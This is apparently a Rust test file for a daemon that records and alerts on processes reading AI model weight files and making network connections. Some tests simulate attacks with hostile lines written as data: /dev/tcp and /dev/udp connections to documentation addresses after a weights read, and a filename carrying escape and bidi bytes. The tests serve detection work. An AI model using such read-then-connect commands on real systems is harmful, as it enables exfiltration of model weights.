//! What processes did becomes records that others can check.

use std::{
    fs,
    os::unix::{
        ffi::OsStrExt as _,
        fs::{MetadataExt as _, symlink},
        net::UnixListener,
    },
    path::Path,
    process::Command,
};

use base64::{Engine as _, engine::general_purpose::STANDARD};
use serde_json::Value;

use super::{Spine, ensure, equal, not_ok, skipped, verdict};
use crate::{
    checks::Ended,
    daemon::{Tools, run},
};

pub(super) fn a_read_is_recorded(tools: &Tools, scratch: &Path) -> Result<(), Ended> {
    let spine = Spine::start(tools, scratch)?;
    let path = spine.models.join("llama.safetensors");
    fs::write(&path, b"weights").map_err(not_ok)?;
    let mut reader = Command::new("cat").arg(&path).stdout(std::process::Stdio::null()).spawn().map_err(not_ok)?;
    let pid = reader.id();
    reader.wait().map_err(not_ok)?;
    let record = spine
        .daemon
        .wait_for_record("cat's open", |record| record["actor"]["process"]["pid"] == pid && record["class_uid"] == 1001)
        .map_err(not_ok)?;
    let inode = fs::metadata(&path).map_err(not_ok)?.ino();
    equal("path", &record["file"]["path"], path.display().to_string())?;
    equal("inode", &record["unmapped"]["plumbline"]["inode"], inode)?;
    equal("policy", &record["policy"]["name"], "weights")?;
    equal("alert", &record["is_alert"], true)?;
    equal("severity", &record["severity_id"], 4)?;
    equal("parent", &record["actor"]["process"]["parent_process"]["pid"], std::process::id())?;
    let exe = fs::canonicalize("/bin/cat").map_err(not_ok)?;
    equal("executable", &record["actor"]["process"]["file"]["path"], exe.display().to_string())?;
    let ancestry = record["actor"]["process"]["ancestry"].as_array().map_or(0, Vec::len);
    ensure(ancestry >= 2, || format!("ancestry of {ancestry}"))?;
    let matches = r#"plumbline_policy_matches_total{policy="weights",rule="stranger",effect="alert""#;
    spine.daemon.wait_for(matches, |count| count >= 1.0).map_err(not_ok)?;
    let (log, vkey) = (spine.daemon.log_dir(), spine.daemon.vkey());
    spine.daemon.stop().map_err(not_ok)?;
    verdict(tools, &log, &vkey, 0, "intact")
}

pub(super) fn a_cache_read_names_the_model(tools: &Tools, scratch: &Path) -> Result<(), Ended> {
    let spine = Spine::start(tools, scratch)?;
    let sha = "5d0f1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8";
    let repository = spine.models.join("models--meta-llama--Llama-3.1-8B");
    let (blobs, snapshot) = (repository.join("blobs"), repository.join("snapshots/0123"));
    fs::create_dir_all(&blobs).and_then(|()| fs::create_dir_all(&snapshot)).map_err(not_ok)?;
    fs::write(blobs.join(sha), b"weights").map_err(not_ok)?;
    let link = snapshot.join("model.safetensors");
    symlink(format!("../../blobs/{sha}"), &link).map_err(not_ok)?;
    fs::read(&link).map_err(not_ok)?;
    let record = spine.open_of(&blobs.join(sha)).map_err(not_ok)?;
    let claim = &record["enrichments"][0]["data"];
    equal("state", &claim["state"], "claimed")?;
    equal("repository", &claim["artefact"]["repository"], "meta-llama/Llama-3.1-8B")?;
    equal("digest", &claim["artefact"]["claimed_sha256"], sha)
}

pub(super) fn a_hostile_name_is_kept(tools: &Tools, scratch: &Path) -> Result<(), Ended> {
    let spine = Spine::start(tools, scratch)?;
    let path = spine.models.join(std::ffi::OsStr::from_bytes(b"we\xffights\n\x1b[31m\xe2\x80\xae.bin"));
    fs::write(&path, b"weights").map_err(not_ok)?;
    fs::read(&path).map_err(not_ok)?;
    let exact = STANDARD.encode(path.as_os_str().as_bytes());
    let record = spine
        .daemon
        .wait_for_record("the hostile name", |record| record["unmapped"]["plumbline"]["path_b64"] == exact.as_str())
        .map_err(not_ok)?;
    let shown = record["file"]["name"].as_str().unwrap_or_default().to_owned();
    ensure(shown == "we\u{fffd}ights\u{fffd}\u{fffd}[31m\u{fffd}.bin", || format!("shown as {shown:?}"))
}

pub(super) fn a_forbidden_connection_is_recorded(tools: &Tools, scratch: &Path) -> Result<(), Ended> {
    if run(Command::new("ip").arg("-V")).is_err() {
        return Err(skipped("the program `ip` is missing (Debian package iproute2)"));
    }
    let spine = Spine::start(tools, scratch)?;
    let tag = std::process::id() % 100_000;
    let (left, right) = (format!("plumb-a-{tag}"), format!("plumb-b-{tag}"));
    // Two hosts on one wire, with addresses that belong to documentation (RFC 5737).
    let setup = format!(
        "set -e; ip netns add {left}; ip netns add {right}; ip -n {left} link add wire type veth peer name wire netns {right}; \
         ip -n {left} addr add 203.0.113.1/24 dev wire; ip -n {right} addr add 203.0.113.2/24 dev wire; \
         ip -n {left} link set wire up; ip -n {right} link set wire up"
    );
    let output = run(Command::new("sh").args(["-c", &setup])).map_err(not_ok)?;
    let outcome = (|| {
        ensure(output.status.success(), || String::from_utf8_lossy(&output.stderr).into_owned())?;
        let connect = "exec 3<>/dev/tcp/203.0.113.2/4444";
        run(Command::new("ip").args(["netns", "exec", &left, "bash", "-c", connect])).map_err(not_ok)?;
        let record = spine
            .daemon
            .wait_for_record("the connection", |record| {
                record["class_uid"] == 4001 && record["dst_endpoint"]["ip"] == "203.0.113.2"
            })
            .map_err(not_ok)?;
        equal("port", &record["dst_endpoint"]["port"], 4444)?;
        equal("policy", &record["policy"]["name"], "egress")?;
        equal("alert", &record["is_alert"], true)?;
        equal("who", &record["actor"]["process"]["name"], "bash")?;
        let own = fs::metadata("/proc/self/ns/net").map_err(not_ok)?.ino();
        let there = &record["unmapped"]["plumbline"]["namespaces"]["net"];
        ensure(there.is_u64() && *there != own, || format!("network namespace {there}, ours is {own}"))
    })();
    let _ = run(Command::new("sh").args(["-c", &format!("ip netns del {left}; ip netns del {right}")]));
    outcome
}

pub(super) fn a_reader_that_connects_is_recorded(tools: &Tools, scratch: &Path) -> Result<(), Ended> {
    let shipped = fs::read_to_string(tools.scripts.join("../policies/weights-then-egress.yaml")).map_err(not_ok)?;
    let models = scratch.join("models");
    let policy = shipped.replace("$weights", &format!("[{}]", models.display()));
    let policies = scratch.join("policies");
    fs::create_dir_all(&policies).map_err(not_ok)?;
    fs::write(policies.join("weights-then-egress.yaml"), policy).map_err(not_ok)?;
    let spine = Spine::start(tools, scratch)?;
    let path = spine.models.join("stolen.safetensors");
    fs::write(&path, b"weights").map_err(not_ok)?;
    // The reader is one child, the sender the shell itself. Nothing is sent: a UDP socket is connected.
    let theft = format!("cat '{}' >/dev/null; exec 3<>/dev/udp/203.0.113.77/9", path.display());
    run(Command::new("bash").args(["-c", &theft])).map_err(not_ok)?;
    let record = spine
        .daemon
        .wait_for_record("the connection", |record| {
            record["class_uid"] == 4001 && record["dst_endpoint"]["ip"] == "203.0.113.77"
        })
        .map_err(not_ok)?;
    equal("policy", &record["policy"]["name"], "weights-then-egress")?;
    equal("who connects", &record["actor"]["process"]["name"], "bash")?;
    let own = &record["unmapped"]["plumbline"];
    let has_read = own["has_read"].as_array().cloned().unwrap_or_default();
    let half = has_read.iter().find(|half| half["path"] == path.display().to_string().as_str());
    let half = half.ok_or_else(|| Ended::NotOk(format!("not among what was read: {}", own["has_read"])))?;
    equal("who read", &half["process"]["name"], "cat")?;
    equal("how much", &half["bytes_read"], 7)?;
    let message = record["message"].as_str().unwrap_or_default();
    ensure(message.contains("stolen.safetensors"), || message.to_owned())
}

pub(super) fn a_reader_at_a_local_socket_is_recorded(tools: &Tools, scratch: &Path) -> Result<(), Ended> {
    let spine = Spine::start(tools, scratch)?;
    let path = spine.models.join("proxied.safetensors");
    fs::write(&path, b"weights").map_err(not_ok)?;
    let socket = spine.scratch.join("proxy.sock");
    let _proxy = UnixListener::bind(&socket).map_err(not_ok)?;
    let python = tools.python.clone().unwrap_or_else(|| "python3".into());
    let connect = "import socket, sys; socket.socket(socket.AF_UNIX).connect(sys.argv[1])";
    let shell = |script: &str| {
        let mut command = Command::new("bash");
        command.args(["-c", script, "bash"]).args([&path, &socket]).arg(&python).arg(connect);
        run(&mut command).map_err(not_ok)
    };
    // Who has read nothing is nobody's business; what the reader did is told after it.
    shell("exec -a stranger \"$3\" -c \"$4\" \"$2\"")?;
    shell("cat \"$1\" >/dev/null; \"$3\" -c \"$4\" \"$2\"")?;
    let is_one = |record: &Value| record["unmapped"]["plumbline"]["kind"] == "local_connect";
    let record = spine.daemon.wait_for_record("the connection to the proxy", is_one).map_err(not_ok)?;
    equal("where", &record["dst_endpoint"]["svc_name"], socket.display().to_string())?;
    let own = &record["unmapped"]["plumbline"];
    equal("who listens", &own["server_pid"], std::process::id())?;
    equal("what was read", &own["has_read"][0]["path"], path.display().to_string())?;
    let records = spine.daemon.records().map_err(not_ok)?;
    let count = records.iter().filter(|record| is_one(record)).count();
    ensure(count == 1, || format!("{count} records of connections to local sockets"))
}

pub(super) fn an_allowed_read_is_no_alert(tools: &Tools, scratch: &Path) -> Result<(), Ended> {
    let spine = Spine::start(tools, scratch)?;
    let path = spine.models.join("y.gguf");
    let engine = spine.scratch.join("bin/llama-server");
    fs::write(&path, b"weights").map_err(not_ok)?;
    fs::create_dir_all(spine.scratch.join("bin")).and_then(|()| fs::copy("/bin/cat", &engine)).map_err(not_ok)?;
    run(Command::new(&engine).arg(&path)).map_err(not_ok)?;
    let exe = engine.display().to_string();
    let record = spine
        .daemon
        .wait_for_record("the engine's open", |record| record["actor"]["process"]["file"]["path"] == exe.as_str())
        .map_err(not_ok)?;
    equal("path", &record["file"]["path"], path.display().to_string())?;
    equal("alert", &record["is_alert"], Value::Null)?;
    equal("disposition", &record["disposition_id"], 17)
}

pub(super) fn a_flipped_byte_is_placed(tools: &Tools, scratch: &Path) -> Result<(), Ended> {
    let spine = Spine::start(tools, scratch)?;
    let path = spine.models.join("z.gguf");
    fs::write(&path, b"weights").map_err(not_ok)?;
    fs::read(&path).map_err(not_ok)?;
    spine.open_of(&path).map_err(not_ok)?;
    let (log, vkey) = (spine.daemon.log_dir(), spine.daemon.vkey());
    spine.daemon.stop().map_err(not_ok)?;
    verdict(tools, &log, &vkey, 0, "intact")?;
    let segment = fs::read_dir(&log)
        .map_err(not_ok)?
        .filter_map(|entry| Some(entry.ok()?.path()))
        .find(|path| path.file_name().is_some_and(|name| name.to_string_lossy().starts_with("segment")))
        .ok_or_else(|| not_ok("no segment"))?;
    let mut bytes = fs::read(&segment).map_err(not_ok)?;
    let needle = b"z.gguf";
    let at = bytes.windows(needle.len()).position(|window| window == needle).ok_or_else(|| not_ok("no record"))?;
    bytes[at] ^= 1;
    fs::write(&segment, bytes).map_err(not_ok)?;
    let name = segment.file_name().map(|name| name.to_string_lossy().into_owned()).unwrap_or_default();
    verdict(tools, &log, &vkey, 1, &name)
}
